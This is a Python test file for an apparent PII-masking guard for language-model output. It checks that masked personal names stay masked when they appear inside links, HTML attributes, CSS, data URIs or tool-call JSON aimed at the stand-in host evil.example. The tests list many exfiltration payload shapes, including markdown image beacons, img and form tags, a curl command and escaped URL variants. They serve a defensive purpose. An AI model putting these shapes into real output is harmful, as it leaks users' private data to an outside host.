"""Values do not leave through addresses, however the address is written or cut."""

from __future__ import annotations

import pytest

from llm_guard_protecto.guard.links import is_link
from llm_guard_protecto.guard.places import Place, Places
from llm_guard_protecto.guard.restore import Restorer, restore
from llm_guard_protecto.guard.tokenmap import TokenMap
from tests.guard.material import MAP, in_pieces, mask

TOKEN = "<PER>cn4Rv PvBCff2</PER>"
# Each holds {} where a token stands; it must still be there afterwards.
EXFILTRATION = [
    "![x](https://evil.example/?q={})",
    "![x](https://evil.example/a(b)/?q={} 'title')",
    "![x](<https://evil.example/?q= {}>)",
    "![x](//evil.example/{}.png)",
    "![x](https:\\\\evil.example\\{})",
    "[click](https://evil.example/{})",
    "[click]( https://evil.example/{} )",
    "[click](mailto:a@evil.example?subject={})",
    "[click](/relative?x={})",
    "[click][1]\n\n[1]: https://evil.example/?q={}",
    "[click][1]\n\n[1]: <https://evil.example/?q= {}>",
    "[1]:\n   https://evil.example/{}",
    "[1]: /relative/{}",
    "<https://evil.example/{}>",
    "https://evil.example/?q={}",
    "HTTPS://EVIL.EXAMPLE/{}",
    "see ftp://evil.example/{}",
    "www.evil.example/?q={}",
    "javascript://x?{}",
    "https://{}.evil.example/",
    "https://user:{}@evil.example/",
    '<img src="https://evil.example/?q={}">',
    "<img src='https://evil.example/?q={}'>",
    "<img src=https://evil.example/?q={}>",
    '<img src = "https://evil.example/a b {}">',
    '<IMG SRC="//evil.example/{}">',
    '<img src="/\n\n{}">',
    '<img srcset="a.png 1x, https://evil.example/{} 2x">',
    '<a href="https://evil.example/{}">x</a>',
    '<a href="\\\\evil.example/{}">x</a>',
    '<form action="https://evil.example/{}">',
    '<div style="background:url(https://evil.example/{})">',
    "<div style=\"background:url('https://evil.example/x y {}')\">",
    "@import url(//evil.example/{});",
    "data:text/html,{}",
    '<iframe src="data:text/html,a b {}">',
    "curl https://evil.example -d x https://evil.example/{}",
    "https:\\/\\/evil.example\\/{}",
    "https://evil.example/?q=%3CPER%3Ecn4Rv%3C/PER%3E&x={}",
    "<URL>hT4ps://aC3mk/pP9th</URL>?q={}",
]
FORMS = [TOKEN, "cn4Rv", "<PER>PvBCff2</PER>", "[PER]cn4rv[/PER]", "cn4RvPvBCff2"]


@pytest.mark.parametrize("shape", EXFILTRATION)
@pytest.mark.parametrize("form", FORMS)
def test_no_value_leaves_through_an_address(shape: str, form: str) -> None:
    text = shape.replace("{}", form)
    whole = restore(text, MAP)
    assert "Sarah" not in whole
    assert "Johnson" not in whole
    for n in range(len(text)):
        assert in_pieces([text[:n], text[n:]], MAP) == whole
    assert in_pieces(list(text), MAP) == whole


@pytest.mark.parametrize("shape", EXFILTRATION)
def test_nor_through_one_that_began_long_before(shape: str) -> None:
    head, _, tail = shape.rpartition("{}")
    text = "Hello.\n" + head + "a/" * 700 + TOKEN + tail
    if "www" in head or head.endswith(("[1]:\n   ", "url(")):
        text = "Hello.\n" + head + "a/" * 700 + TOKEN + tail
    assert restore(text, MAP).count("Sarah") == 0
    assert in_pieces(list(text), MAP) == restore(text, MAP)


@pytest.mark.parametrize("shape", EXFILTRATION)
def test_a_policy_may_open_addresses(shape: str) -> None:
    text = shape.replace("{}", TOKEN)
    opened = restore(text, MAP, places=Places("always", "always"))
    assert "Sarah Johnson" in opened


OPEN = [
    ("{} went to https://example.com/x.", "Sarah Johnson went to https://example.com/x."),
    ("See https://example.com/x {}", "See https://example.com/x Sarah Johnson"),
    ("[link](https://example.com/x) {}", "[link](https://example.com/x) Sarah Johnson"),
    ("[{}](https://example.com/x)", "[Sarah Johnson](https://example.com/x)"),
    ("![{}](x.png) (a) {}", "![Sarah Johnson](x.png) (a) Sarah Johnson"),
    ('<a href="https://example.com">{}</a>', '<a href="https://example.com">Sarah Johnson</a>'),
    ("https://example.com<br>{}", "https://example.com<br>Sarah Johnson"),
    ("[Agent]: {} called", "[Agent]: Sarah Johnson called"),
    ("name={}", "name=Sarah Johnson"),
    ("and/or {}", "and/or Sarah Johnson"),
    ("a: {}; time 10:30 {}", "a: Sarah Johnson; time 10:30 Sarah Johnson"),
    ("// {} wrote this", "// Sarah Johnson wrote this"),
    ("data: {}", "data: Sarah Johnson"),
]


@pytest.mark.parametrize(("shape", "want"), OPEN)
def test_text_beside_an_address_is_restored(shape: str, want: str) -> None:
    text = shape.replace("{}", TOKEN)
    assert restore(text, MAP) == want
    for n in range(len(text)):
        assert in_pieces([text[:n], text[n:]], MAP) == want


def test_a_token_that_is_an_address_is_restored() -> None:
    token = "<URL>hT4ps://aC3mk/pP9th</URL>"
    address = "https://acme.example/home"
    for shape in ("Go to {}.", "[home]({})", "<{}>", '<a href="{}">', "[1]: {}", "hT: {}"):
        assert restore(shape.replace("{}", token), MAP) == shape.replace("{}", address)
    assert restore("hT4ps://aC3mk/pP9th", MAP) == address
    carried = f"https://evil.example/?u={token}"
    assert restore(carried, MAP) == carried


def test_a_bare_host_is_not_made_longer() -> None:
    masked = mask("https://acme.example", ("https://acme.example", "hT4ps://aC3mk", "URL"))
    tokens = TokenMap.of([masked])
    for text in (
        "<URL>hT4ps://aC3mk</URL>.evil.example",
        "<URL>hT4ps://aC3mk</URL>@evil.example",
    ):
        assert in_pieces(list(text), tokens) == restore(text, tokens) == text
    assert restore("<URL>hT4ps://aC3mk</URL>.", tokens) == "https://acme.example."


def test_an_address_the_user_wrote_is_restored_and_no_other() -> None:
    masked = mask(
        "Open https://crm.example/find?name=Ann and https://Bob.example/x",
        ("Ann", "x7Kwp", "PER"),
        ("Bob", "T4sdd", "PER"),
    )
    tokens = TokenMap.of([masked])
    assert restore(masked.token_value, tokens) == masked.value
    for text, want in (
        (
            "[x](https://crm.example/find?name=<PER>x7Kwp</PER>&a=1)",
            "[x](https://crm.example/find?name=Ann&a=1)",
        ),
        ("https://<PER>T4sdd</PER>.example/y", "https://Bob.example/y"),
        ("https://<PER>T4sdd</PER>.evil/y", "https://<PER>T4sdd</PER>.evil/y"),
        (
            "https://crm.example.evil/find?name=<PER>x7Kwp</PER>",
            "https://crm.example.evil/find?name=<PER>x7Kwp</PER>",
        ),
    ):
        assert in_pieces(list(text), tokens) == restore(text, tokens) == want


@pytest.mark.parametrize(
    ("arguments", "want"),
    [
        ('{"to": "%s"}', '{"to": "Sarah Johnson"}'),
        ('{"url": "https://evil.example/?e=%s"}', None),
        ('{"url": "https:\\/\\/evil.example\\/%s"}', None),
        ('{"url": "\\u0068ttps:\\u002f\\u002fevil.example\\u002f%s"}', None),
        ('{"body": "{\\"url\\": \\"https://evil.example/%s\\"}"}', None),
        ('{"html": "<img src=\\"//evil.example/%s\\">"}', None),
        ('{"cmd": "curl https://evil.example/%s"}', None),
        ('{"md": "![x](https://evil.example/%s)", "to": "x"}', None),
        ('{"md": "[a](x) %s"}', '{"md": "[a](x) Sarah Johnson"}'),
        (
            '{"url": "https://a.example", "to": "%s"}',
            '{"url": "https://a.example", "to": "Sarah Johnson"}',
        ),
    ],
)
def test_tool_arguments(arguments: str, want: str | None) -> None:
    text = arguments.replace("%s", TOKEN)
    restorer = Restorer(MAP, Place.JSON_FRAGMENT)
    got = "".join([restorer.feed(sign) for sign in text]) + restorer.flush()
    assert got == restore(text, MAP, Place.JSON_FRAGMENT)
    assert got == (text if want is None else want)
    assert restorer.counts.kept_in_url == (want is None)


def test_is_link() -> None:
    assert is_link("https://a.example/x")
    assert is_link("www.a.example")
    assert not is_link("a.example and https://b.example")
    assert not is_link("Ann Lee")
